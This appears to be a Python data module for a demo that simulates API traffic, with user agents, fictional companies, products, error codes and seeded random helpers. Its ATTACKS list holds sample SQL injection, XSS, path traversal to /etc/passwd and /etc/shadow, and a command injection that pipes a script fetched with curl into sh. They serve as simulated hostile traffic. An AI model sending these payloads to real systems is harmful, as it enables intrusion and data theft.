"""The demo's fixed data: where callers live, what they run, what they are called, what they buy,
how they attack, how the servers fail; and the small random helpers that draw from it.

Nothing here draws at import time: every helper takes the run's `random.Random`.
"""

from __future__ import annotations

import base64
import math
import random
from importlib.resources import files

# --- Countries: rhythm offset (hours), weight as a home country, /24 prefixes --------------------
# Every prefix was checked with geoip2fast for all last octets 1-254 (see tests/core/test_demo.py).


def _number(text: str) -> float:
    return float(text) if "." in text else int(text)


def _rows(name: str) -> list[list[str]]:
    """The rows of a tab-separated table beside this file (lines starting with # left out)."""
    text = (files(__package__) / name).read_text(encoding="utf-8")
    return [line.split("\t") for line in text.splitlines() if line and not line.startswith("#")]


COUNTRIES: dict[str, tuple[float, float, tuple[str, ...]]] = {
    code: (_number(offset), _number(weight), tuple(prefixes.split()))
    for code, offset, weight, prefixes in _rows("countries.tsv")
}

COMPANY_SUFFIX = {
    "DE": " GmbH", "CH": " AG", "GB": " Ltd", "IE": " Ltd", "FR": " SA", "ES": " SL", "BR": " Ltda",
    "NL": " BV", "SE": " AB", "PL": " sp. z o.o.", "IT": " S.p.A.", "JP": " KK", "US": " Inc",
    "CA": " Inc", "AU": " Pty Ltd", "IN": " Pvt Ltd", "MX": " SA de CV",
}

# --- User agents ---------------------------------------------------------------------------------

_CHROME = (139, 140, 141, 142)
_FIREFOX = (142, 143, 144, 145)
DESKTOP_UAS = tuple(
    [f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36" for v in _CHROME]
    + [f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36" for v in _CHROME]
    + [f"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36" for v in _CHROME[2:]]
    + [f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.0.0" for v in _CHROME[1:]]
    + [f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0" for v in _FIREFOX]
    + [f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:{v}.0) Gecko/20100101 Firefox/{v}.0" for v in _FIREFOX[2:]]
    + [f"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0" for v in _FIREFOX[1:]]
    + [f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{v} Safari/605.1.15" for v in ("18.6", "26.0", "26.1")]
)
MOBILE_UAS = tuple(
    [f"Mozilla/5.0 (iPhone; CPU iPhone OS {v.replace('.', '_')} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{v} Mobile/15E148 Safari/604.1" for v in ("18.6", "26.0", "26.1")]
    + [f"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36" for v in _CHROME]
    + ["Mozilla/5.0 (Linux; Android 15; SM-S931B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36",
       "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/141.0.7390.41 Mobile/15E148 Safari/604.1"]
)
TABLET_UAS = (
    "Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 26_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-X710) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
)
SERVER_CLIENT_UAS = (
    "python-requests/2.32.3", "python-requests/2.32.5", "python-httpx/0.28.1", "Go-http-client/1.1",
    "Go-http-client/2.0", "axios/1.12.2", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "okhttp/4.12.0", "Apache-HttpClient/5.4.1 (Java/21.0.5)", "GuzzleHttp/7", "Faraday v2.13.1",
    "Java/17.0.12",
)
DEV_TOOL_UAS = ("curl/8.5.0", "curl/8.14.1", "curl/7.81.0", "PostmanRuntime/7.45.0", "PostmanRuntime/7.39.1", "insomnia/11.2.0")
AI_AGENT_UAS = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Claude-User/1.0; +Claude-User@anthropic.com)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; +https://perplexity.ai/perplexity-user)",
    "Mozilla/5.0 (compatible; Google-Extended/1.0; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Gemini-Deep-Research; +https://gemini.google/overview/deep-research/) Chrome/135.0.0.0 Safari/537.36",
    "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
    "CCBot/2.0 (https://commoncrawl.org/faq/)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; MistralAI-User/1.0; +https://docs.mistral.ai/robots)",
)
# Assistants that act for a signed-in user (so they may carry the customer's id and token).
ASSISTANT_UAS = tuple(ua for ua in AI_AGENT_UAS if "-User" in ua or "Deep-Research" in ua)
SCANNER_UAS = (
    "sqlmap/1.9.8#stable (https://sqlmap.org)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "python-requests/2.31.0",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
)
ACCEPT_LANGUAGE = {
    "US": "en-US,en;q=0.9", "CA": "en-CA,en;q=0.9,fr-CA;q=0.8", "GB": "en-GB,en;q=0.9", "IE": "en-IE,en;q=0.9",
    "AU": "en-AU,en;q=0.9", "NZ": "en-NZ,en;q=0.9", "DE": "de-DE,de;q=0.9,en;q=0.8", "CH": "de-CH,de;q=0.9,en;q=0.7",
    "FR": "fr-FR,fr;q=0.9,en;q=0.7", "ES": "es-ES,es;q=0.9,en;q=0.8", "MX": "es-MX,es;q=0.9,en;q=0.8",
    "AR": "es-AR,es;q=0.9,en;q=0.8", "BR": "pt-BR,pt;q=0.9,en;q=0.8", "IT": "it-IT,it;q=0.9,en;q=0.8",
    "NL": "nl-NL,nl;q=0.9,en;q=0.8", "SE": "sv-SE,sv;q=0.9,en;q=0.8", "PL": "pl-PL,pl;q=0.9,en;q=0.8",
    "JP": "ja-JP,ja;q=0.9,en;q=0.8", "KR": "ko-KR,ko;q=0.9,en;q=0.8", "CN": "zh-CN,zh;q=0.9,en;q=0.8",
    "TR": "tr-TR,tr;q=0.9,en;q=0.8", "UA": "uk-UA,uk;q=0.9,en;q=0.8", "VN": "vi-VN,vi;q=0.9,en;q=0.8",
    "ID": "id-ID,id;q=0.9,en;q=0.8", "IL": "he-IL,he;q=0.9,en;q=0.8", "EG": "ar-EG,ar;q=0.9,en;q=0.8",
}

# --- Ids, names, products, places, attacks -------------------------------------------------------

_ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
HEXCHARS = "0123456789abcdef"
_B64_TO_ALNUM = str.maketrans("+/", "xQ")

FAMOUS_COMPANIES = (
    "Acme Corp", "Globex", "Initech", "Umbrella Corp", "Stark Industries", "Wayne Enterprises", "Hooli",
    "Pied Piper", "Soylent", "Cyberdyne Systems", "Vandelay Industries", "Wonka Industries", "Tyrell Corp",
    "Massive Dynamic", "Aperture Science", "Dunder Mifflin", "Nakatomi Trading", "Bluth Company",
    "Sterling Cooper", "Virtucon", "Wernham Hogg", "Oceanic Airlines", "Weyland-Yutani", "Gringotts",
    "Monarch Solutions", "Prestige Worldwide", "Blue Sun", "Northwind Traders", "Contoso", "Fabrikam",
)
# Other company names: "WORD_A WORD_B [WORD_C]" and sometimes the country's COMPANY_SUFFIX.
WORD_A = (
    "Blue", "North", "Silver", "Bright", "Iron", "Red", "Green", "Swift", "Clear", "Golden", "Quantum",
    "Pacific", "Atlas", "Summit", "Harbor", "Cedar", "Maple", "Falcon", "Nova", "Vertex", "Lumen", "Polar",
    "Copper", "Granite", "River", "Sun", "Orbit", "Pioneer", "Crescent", "Evergreen", "Prairie", "Aurora",
    "Beacon", "Coastal", "Delta", "Echo", "Fusion", "Horizon", "Juniper", "Keystone", "Lakeside",
    "Meridian", "Oak", "Pinnacle", "Redwood", "Sterling", "Trident", "Union", "Vista", "Willow",
)
WORD_B = (
    "Labs", "Logistics", "Health", "Retail", "Foods", "Systems", "Analytics", "Commerce", "Travel", "Media",
    "Capital", "Energy", "Robotics", "Software", "Networks", "Bank", "Insurance", "Pharma", "Motors",
    "Studios", "Games", "Apparel", "Outdoors", "Markets", "Telecom", "Security", "Cloud", "Freight",
    "Learning", "Realty",
)
WORD_C = ("", "", "", "Group", "Partners", "Digital", "Solutions", "Holdings", "Works", "Direct", "Global")
FIRST_NAMES = (
    "Maria", "James", "Wei", "Aisha", "Lucas", "Sofia", "Hiroshi", "Priya", "Liam", "Emma", "Mateo", "Olga",
    "Noah", "Fatima", "Elena", "Kwame", "Yuki", "Arjun", "Chloe", "Diego", "Ingrid", "Omar", "Hannah", "Jun",
)
LAST_NAMES = (
    "Garcia", "Smith", "Chen", "Khan", "Müller", "Rossi", "Tanaka", "Patel", "Johnson", "Dubois", "Silva",
    "Kowalski", "Nguyen", "Okafor", "Andersson", "Ivanova", "Kim", "Cohen", "Novak", "Fernández", "Brown",
)
EMAIL_DOMAINS = ("gmail.com", "outlook.com", "icloud.com", "proton.me", "yahoo.com")
PLANS = ("free", "starter", "pro", "business", "enterprise")

PRODUCTS = (
    ("Trail Running Shoes", 12999, "shoes"), ("Merino Wool Socks", 1899, "apparel"),
    ("Waterproof Jacket", 18900, "apparel"), ("Insulated Bottle 750ml", 3499, "outdoor"),
    ("Noise-Cancelling Headphones", 29900, "electronics"), ("USB-C Charger 65W", 4599, "electronics"),
    ("Ergonomic Office Chair", 34900, "furniture"), ("Standing Desk", 54900, "furniture"),
    ("Espresso Beans 1kg", 2899, "grocery"), ("Yoga Mat", 3999, "sports"), ("Camping Tent 2P", 24900, "outdoor"),
    ("Mechanical Keyboard", 11900, "electronics"), ("Linen Shirt", 5900, "apparel"), ("Desk Lamp", 4900, "furniture"),
)
CITIES = (  # city, country, postal code, street
    ("Berlin", "DE", "10115", "Invalidenstraße"), ("New York", "US", "10001", "W 34th St"),
    ("London", "GB", "EC1A 1BB", "St Martin's Le Grand"), ("Paris", "FR", "75001", "Rue de Rivoli"),
    ("Toronto", "CA", "M5H 2N2", "Bay St"), ("São Paulo", "BR", "01310-100", "Avenida Paulista"),
    ("Tokyo", "JP", "100-0001", "Chiyoda"), ("Sydney", "AU", "2000", "George St"), ("Madrid", "ES", "28013", "Gran Vía"),
    ("Amsterdam", "NL", "1012 JS", "Damrak"), ("Chicago", "US", "60601", "N Michigan Ave"),
)
CARRIERS = ("ups", "dhl", "fedex", "usps", "dpd", "royal-mail")

# Injection attempts, as they reach the server: (query or None, body or None).
ATTACKS = (
    ("id=1%27%20OR%20%271%27%3D%271", None),
    ("id=1' OR '1'='1", None),
    ("q=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--", None),
    ("q=shoes%27%3B%20DROP%20TABLE%20orders%3B--", None),
    ("search=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", None),
    ("callback=<script>alert(1)</script>", None),
    ("file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", None),
    ("file=../../../../etc/passwd", None),
    ("host=8.8.8.8%3Bcat%20%2Fetc%2Fpasswd", None),
    (None, {"email": "admin@example.com' OR 1=1--", "password": "**********"}),
    (None, {"name": "<img src=x onerror=alert(document.domain)>", "note": "hello"}),
    (None, {"comment": "'; DROP TABLE users; --"}),
    (None, {"template": "../../../../../etc/shadow"}),
    (None, {"host": "example.com; curl http://203.0.113.7/x.sh | sh"}),
)

# --- Status codes and errors: weights of the codes, their messages, each SDK style's errors[] ----

CODE_4XX = ((400, 18), (401, 12), (403, 8), (404, 32), (409, 5), (422, 17), (429, 8))
CODE_5XX = ((500, 55), (502, 20), (503, 15), (504, 10))
MESSAGES = {
    400: ("bad_request", "The request body is not valid JSON."),
    401: ("unauthenticated", "Authentication credentials were not provided."),
    403: ("forbidden", "You do not have permission to perform this action."),
    404: ("not_found", "No resource matches the given id."),
    409: ("conflict", "The resource was modified by another request."),
    422: ("validation_failed", "The given data was invalid."),
    429: ("rate_limited", "Too many requests. Retry after 30 seconds."),
    500: ("server_error", "Internal Server Error"),
    502: ("bad_gateway", "Bad Gateway"),
    503: ("unavailable", "Service Unavailable"),
    504: ("timeout", "Gateway Timeout"),
}


def _errors_by_sdk() -> dict[str, tuple[tuple[str, str, str, int], ...]]:
    """By SDK, the errors[] entries its servers send: (type, message, file, line)."""
    errors: dict[str, list] = {}
    for sdk, kind, message, file, line in _rows("errors.tsv"):
        errors.setdefault(sdk, []).append((kind, message, file, int(line)))
    return {sdk: tuple(entries) for sdk, entries in errors.items()}


ERRORS = _errors_by_sdk()

# --- Random helpers ------------------------------------------------------------------------------


def token(g: random.Random, n: int, alphabet: str = _ALNUM) -> str:
    """n random characters (letters and digits, or hex) with at least one digit and, for n > 1,
    one letter, the way generated ids and keys look."""
    if alphabet == HEXCHARS:
        text = f"{g.getrandbits(4 * n):0{n}x}"
    else:
        text = base64.b64encode(g.randbytes(n)).decode()[:n].translate(_B64_TO_ALNUM)
    if text.isalpha():
        i = int(g.random() * n)
        text = text[:i] + str(int(g.random() * 10)) + text[i + 1 :]
    if n > 1 and text.isdigit():
        i = int(g.random() * n)
        text = text[:i] + "abcdef"[int(g.random() * 6)] + text[i + 1 :]
    return text


def masked(g: random.Random) -> str:
    """A secret as the SDKs send it: one asterisk per character."""
    return "*" * g.randint(8, 16)


def uuid(g: random.Random) -> str:
    """A random version-4 UUID."""
    h = f"{g.getrandbits(128):032x}"
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[int(g.random() * 4)]}{h[17:20]}-{h[20:]}"


def money(g: random.Random, low: int, high: int) -> int:
    """An amount in cents between `low` and `high`, log-uniform, priced like `..99`."""
    return int(math.exp(g.uniform(math.log(low), math.log(high)))) // 100 * 100 + 99


def product(g: random.Random) -> dict:
    """A product of `PRODUCTS` as the APIs return it."""
    name, price, category = PRODUCTS[int(g.random() * len(PRODUCTS))]
    return {"id": g.randint(1000, 48000), "name": name, "price": price, "currency": "usd", "category": category}


def address(g: random.Random) -> dict:
    """A street address in one of `CITIES`."""
    city, country, postal, street = CITIES[int(g.random() * len(CITIES))]
    return {"line1": f"{g.randint(1, 240)} {street}", "city": city, "postal_code": postal, "country": country}


# --- Weighted draws ------------------------------------------------------------------------------


def table(items: list, weights: list[float], bits: int) -> list:
    """2**bits entries, each item in proportion to its weight (at least once): `table[getrandbits(bits)]`
    is a weighted choice in one step."""
    size = 1 << bits
    total = sum(weights)
    counts = [max(1, round(w / total * size)) if w > 0 else 0 for w in weights]
    while sum(counts) > size:
        counts[counts.index(max(counts))] -= 1
    while sum(counts) < size:
        counts[counts.index(max(counts))] += 1
    return [item for item, n in zip(items, counts) for _ in range(n)]


def spread(items: list, bits: int) -> list:
    """`items` stretched (or thinned) evenly to 2**bits entries, keeping their proportions."""
    size = 1 << bits
    return [items[i * len(items) // size] for i in range(size)]


def cumulative(weights: list[float]) -> list[float]:
    """Running totals of `weights`: `bisect_right(cum, random() * cum[-1])` is a weighted choice."""
    total, out = 0.0, []
    for w in weights:
        total += w
        out.append(total)
    return out
